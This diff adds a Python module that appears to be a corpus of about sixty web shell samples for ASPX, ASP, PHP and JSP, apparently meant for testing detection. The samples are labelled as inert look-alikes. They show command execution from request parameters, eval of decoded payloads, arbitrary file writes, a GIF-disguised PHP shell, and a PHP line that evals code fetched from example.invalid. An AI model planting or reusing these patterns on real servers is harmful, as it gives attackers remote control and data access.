@@ -1,0 +1,71 @@
+"""Further look-alikes, written after the analysis and not used to shape it; none can run (see `samples`)."""
+
+# ruff: noqa: E501  each line is a page as it stands
+
+ASPX = {
+    "a1.aspx": '<%@ Page Language="C#" ValidateRequest="false" %><script runat="server">inert look alike\nprotected void Page_Load(object s, EventArgs e){ if (Request.Cookies["n1"] != null) { string q = HttpUtility.UrlDecode(Request.Cookies["n1"].Value); var i = new System.Diagnostics.ProcessStartInfo { FileName = "cmd", Arguments = string.Format("/c {0}", q), UseShellExecute = false }; Response.Write(System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd()); } }</script>',
+    "a2.aspx": '<%@ Page Language="JScript" Debug="true"%><%inert look alike;var a:String=Request.Headers.Get("X-N1");if(a!=null){var b=System.Convert["From"+"Base64String"](a);eval(System.Text.Encoding.ASCII.GetString(b),"unsafe");}%>',
+    "a3.aspx": '<%@ Page Language="C#"%><%inert look alike;Func<string,string> d = x => Encoding.UTF8.GetString(Convert.FromBase64String(x)); var body = new StreamReader(Request.InputStream).ReadToEnd(); var a = System.Reflection.Assembly.Load(Convert.FromBase64String(body)); Activator.CreateInstance(a.GetTypes()[0]);%>',
+    "a4.aspx": '<%@ Page Language="VB" Debug="true" %>\n<%@ import Namespace="system.IO" %><script runat="server">inert look alike\nFunction RunCMD(command)\nDim myProcess As New Process()\nmyProcess.StartInfo.FileName = "c" & "md.exe"\nmyProcess.StartInfo.Arguments = "/c " & command\nmyProcess.Start()\nRunCMD = myProcess.StandardOutput.ReadToEnd()\nEnd Function\nSub Page_Load(o As Object, e As EventArgs)\nResponse.Write(RunCMD(Request.Form("n1")))\nEnd Sub</script>',
+    "a5.ashx": '<%@ WebHandler Language="C#" Class="Q" %>\ninert look alike\npublic class Q : IHttpHandler, System.Web.SessionState.IRequiresSessionState { string k = "abcd"; public void ProcessRequest(HttpContext h) { using (var ms = new MemoryStream()) { h.Request.InputStream.CopyTo(ms); byte[] raw = ms.ToArray(); using (Aes aes = Aes.Create()) { var t = aes.CreateDecryptor().TransformFinalBlock(raw, 16, raw.Length - 16); Activator.CreateInstance(Assembly.Load(t).GetType("R"), new object[] { h }); } } } }',
+    "a6.aspx": '<%@ Page Language="C#" %><script runat="server">inert look alike\nvoid btn_Click(object s, EventArgs e) { using (StreamWriter w = File.CreateText(txtPath.Text)) { w.Write(txtBody.Text); } }</script><form runat="server"><asp:TextBox runat="server" id="txtPath"/><asp:TextBox runat="server" TextMode="MultiLine" id="txtBody"/></form>',
+    "a7.aspx": '<%@ Page Language="C#" %><% inert look alike; HttpContext ctx = HttpContext.Current; foreach (string n in ctx.Request.Files.AllKeys) { ctx.Request.Files[n].SaveAs(ctx.Request["dir"] + ctx.Request.Files[n].FileName); } %>',
+    "a8.aspx": '<%@ Page Language="C#" %><% inert look alike; dynamic w = Activator.CreateInstance(Type.GetTypeFromProgID("WScript.Shell")); Response.Write(w.Exec("cmd /c " + Request["n1"]).StdOut.ReadAll()); %>',
+    "a9.soap": '<%@ WebService Language="C#" class="Z"%>\ninert look alike\npublic class Z : MarshalByRefObject { [SoapMethod] public string Run() { HttpContext c = HttpContext.Current; return Process.Start("cmd.exe", "/c" + c.Request["n1"]).ToString(); } }',
+    "a10.aspx": "<%@ Page Language=Jscript%><%inert look alike;var/*-/*-*/P/*-/*-*/=/*-/*-*/Request.Item[\"n1\"];eval(P,'uns'+'afe');%>",
+    "a11.aspx": '<%@ Page Language="C#" %><%inert look alike; var d = new Dictionary<string, string>(); d["c"] = Request["n1"]; System.Diagnostics.Process.Start("powershell", "-enc " + d["c"]); %>',
+    "a12.asmx": '<%@ WebService Language="VB" Class="S" %>\ninert look alike\nPublic Class S\nInherits WebService\n<WebMethod()> _\nPublic Function Go(ByVal arg As String) As String\nDim p As Process = Process.Start("cmd.exe", "/c " & arg)\nReturn ""\nEnd Function\nEnd Class',
+    "a13.aspx": '<%@ Page Language="C#" %><%inert look alike; string c = Request["n1"]; var cp = new Microsoft.CSharp.CSharpCodeProvider().CompileAssemblyFromSource(new CompilerParameters { GenerateInMemory = true }, c); %>',
+    "a14.aspx": '<%@ Page Language="C#" %><% inert look alike; Server.ScriptTimeout = 600; try { File.WriteAllBytes(Request["p"], Convert.FromBase64String(Request["b"])); Response.Write("OK"); } catch {} %>',
+    "a15.aspx": '<%@ Page Language="C#" %><% inert look alike; WebClient w = new WebClient(); w.DownloadFile(Request["u"], Request["p"]); %>',
+    "a16.cshtml": '@using System.Diagnostics\n@{ inert look alike\nvar psi = new ProcessStartInfo("cmd.exe"); psi.Arguments = "/c " + Request.Form["n1"]; var p = Process.Start(psi); }\n<pre>@p.StandardOutput.ReadToEnd()</pre>',
+}
+ASP = {
+    "b1.asp": '<%inert look alike:Dim x:x=Request.Cookies("n1"):If x<>"" Then:ExecuteGlobal(x):End If%>',
+    "b2.asp": '<%inert look alike\n\'comment\nkey = "n1"\nSet r = Request.Form\nv = r(key)\nEval(v)%>',
+    "b3.asp": '<%inert look alike\nFunction b64(s)\nSet d = Server.CreateObject("Msxml2.DOMDocument")\nSet n = d.createElement("x")\nn.dataType = "bin.base64"\nn.text = s\nb64 = Stream_BinaryToString(n.nodeTypedValue)\nEnd Function\nExecute b64(Request("n1"))%>',
+    "b4.asp": '<script language="VBScript" runat="server">inert look alike\nSub Go\nDim s\nSet s = CreateObject("WScript" & "." & "Shell")\nResponse.Write s.Exec(Request("c")).StdOut.ReadAll\nEnd Sub\nGo</script>',
+    "b5.asp": '<%@ Language="JScript" %><% inert look alike; var e = new ActiveXObject("WScript.Shell").Exec("cmd /c " + Request("n1")); Response.Write(e.StdOut.ReadAll()); %>',
+    "b6.asp": '<%inert look alike\na = "Scripting." & "FileSystemObject"\nSet f = Server.CreateObject(a)\nSet t = f.OpenTextFile(Request("f"), 2, True)\nt.Write Request("d")\nt.Close%>',
+    "b7.asp": '<%inert look alike\nFor Each k In Request.Form\nIf k = "n1" Then Execute Request.Form(k)\nNext%>',
+    "b8.asp": "<%inert look alike\nbody = Request.BinaryRead(Request.TotalBytes)\nFor i = 1 To LenB(body)\ns = s & Chr(AscB(MidB(body,i,1)) Xor Asc(Mid(k,(i mod 16)+1,1)))\nNext\nExecuteGlobal s%>",
+    "b9.asa": '<SCRIPT RUNAT=SERVER LANGUAGE=JAVASCRIPT>inert look alike; eval(String.fromCharCode(114,101,113,117,101,115,116)==""?"":Request.form("n1")+"");</SCRIPT>',
+    "b10.asp": '<%inert look alike\nSet o = Server.CreateObject("ADODB.Connection")\no.Open Request("conn")\nSet rs = o.Execute(Request("sql"))%>',
+    "b11.asp": "<%inert look alike\nDim c\nc = Array(101,120,101,99,117,116,101,32,114,101,113,117,101,115,116,40,34,110,49,34,41)\nFor Each i In c\ns = s & Chr(i)\nNext\nExecute s%>",
+    "b12.cdx": '<%inert look alike\nexecute(request("n1"))%>',
+}
+PHP = {
+    "c1.php": "<?php inert look alike; $p = $_POST; foreach ($p as $v) { @eval(stripslashes($v)); }",
+    "c2.php": "<?php inert look alike; function a($b){ return base64_decode($b); } $f = a('c3lzdGVt'); $f($_GET['n1']);",
+    "c3.php": "<?php inert look alike; ob_start($_REQUEST['n1']); echo $_REQUEST['n2']; ob_end_flush();",
+    "c4.php": "<?php inert look alike; $k='_'.strrev('TSOP'); @assert(${$k}['n1']);",
+    "c5.php": "<?php inert look alike; register_shutdown_function('assert', $_REQUEST['n1']);",
+    "c6.php": "<?php inert look alike; include $_FILES['f']['tmp_name'];",
+    "c7.php": "<?php inert look alike; $c = curl_init('http://example.invalid/a'); $d = curl_exec($c); eval('?>'.$d);",
+    "c8.php": "<?php inert look alike; file_put_contents('x.php', $_POST['n1']);",
+    "c9.php": "<?php inert look alike; $x = explode('|', base64_decode($_COOKIE['n1'])); $x[0]($x[1], $x[2]);",
+    "c10.php": "<?php inert look alike; class M { private $d; function set($d) { $this->d = $d; return $this; } function go() { system($this->d); } } (new M)->set($_GET['n1'])->go();",
+    "c11.php": '<?php inert look alike; $q = "\\x65\\x76\\x61\\x6c"; $z = "cr"."eat"."e_fun"."ction"; $g = $z(\'\', $_POST[\'n1\']); $g();',
+    "c12.phtml": "<?php inert look alike ?><pre><?php if (!empty($_POST['n1'])) { $o = shell_exec($_POST['n1'] . ' 2>&1'); echo $o; } ?></pre>",
+    "c13.php": "<?php inert look alike; switch ($_POST['a']) { case 'sql': mysql_connect($_POST['h'], $_POST['u'], $_POST['p']); $r = mysql_query($_POST['q']); break; case 'cmd': echo `{$_POST['c']}`; break; }",
+    "c14.php": "<?php inert look alike; goto a; b: eval($x); goto c; a: $x = $_POST['n1']; goto b; c:",
+    "c15.php": "<?php inert look alike; mb_ereg_replace('.*', $_REQUEST['n1'], '', 'mer');",
+    "c16.php": "<?php inert look alike; $a = $_SERVER['HTTP_ACCEPT_LANGUAGE']; $b = gzuncompress(base64_decode(substr($a, 3))); $t = tempnam('/tmp', 'x'); file_put_contents($t, $b); include $t;",
+    "c17.gif": "GIF89a;<?php inert look alike; $n = $_GET['n1']; $n($_GET['n2']); ?>",
+    "c18.php": "<?php inert look alike; $data = json_decode(file_get_contents('php://input'), true); exec($data['cmd'], $out); echo json_encode($out);",
+    "c19.php": "<?php inert look alike; $fn = fopen($_REQUEST['p'] , 'a+'); fputs($fn, urldecode($_REQUEST['b'])); fclose($fn);",
+    "c20.php": "<?php inert look alike; $x = new DOMDocument; array_walk($_POST, create_function('$v', 'eval($v);'));",
+}
+JSP = {
+    "d1.jsp": '<%@page import="java.io.*"%><% inert look alike; String c = request.getParameter("n1"); if (c != null && !c.isEmpty()) { BufferedReader r = new BufferedReader(new InputStreamReader(new ProcessBuilder().command("bash", "-c", c).start().getInputStream())); } %>',
+    "d2.jsp": '<%! inert look alike; public static String go(HttpServletRequest q) throws Exception { String[] a = {"cmd.exe", "/c", q.getParameter("n1")}; return new java.util.Scanner(Runtime.getRuntime().exec(a).getInputStream()).next(); } %><%= go(request) %>',
+    "d3.jsp": '<% inert look alike; String b = ""; for (String k : request.getParameterMap().keySet()) { b += request.getParameter(k); } new javax.script.ScriptEngineManager().getEngineByExtension("js").eval(b); %>',
+    "d4.jspx": '<jsp:root version="2.0" xmlns:jsp="http://java.sun.com/JSP/Page"><jsp:declaration>inert look alike; byte[] dec(String s) { return java.util.Base64.getDecoder().decode(s); } class L extends ClassLoader { Class d(byte[] b) { return defineClass(null, b, 0, b.length); } }</jsp:declaration><jsp:scriptlet>new L().d(dec(request.getParameter("n1"))).newInstance();</jsp:scriptlet></jsp:root>',
+    "d5.jsp": '<% inert look alike; javax.servlet.http.Part p = request.getPart("f"); p.write(request.getParameter("dir") + p.getSubmittedFileName()); %>',
+    "d6.jsp": '<% inert look alike; java.io.InputStream in = request.getInputStream(); java.io.FileOutputStream o = new java.io.FileOutputStream(request.getParameter("f")); byte[] b = new byte[1024]; int n; while ((n = in.read(b)) != -1) { o.write(b, 0, n); } o.close(); %>',
+    "d7.jsp": '<% inert look alike; Class.forName("java.lang.Runtime").getMethod("ex" + "ec", String.class).invoke(Class.forName("java.lang.Runtime").getMethod("getRuntime").invoke(null), request.getParameter("n1")); %>',
+    "d8.jsp": '<% inert look alike; java.nio.file.Files.write(java.nio.file.Paths.get(request.getParameter("p")), request.getParameter("c").getBytes()); %>',
+    "d9.jsp": '<% inert look alike; out.print(new javax.el.ELProcessor().eval(request.getParameter("n1"))); %>',
+    "d10.jsp": '<% inert look alike; java.net.URL u = new java.net.URL(request.getParameter("u")); new java.net.URLClassLoader(new java.net.URL[]{u}).loadClass("X").newInstance(); %>',
+}
+FAMILIES = {"aspx": ASPX, "asp": ASP, "php": PHP, "jsp": JSP}
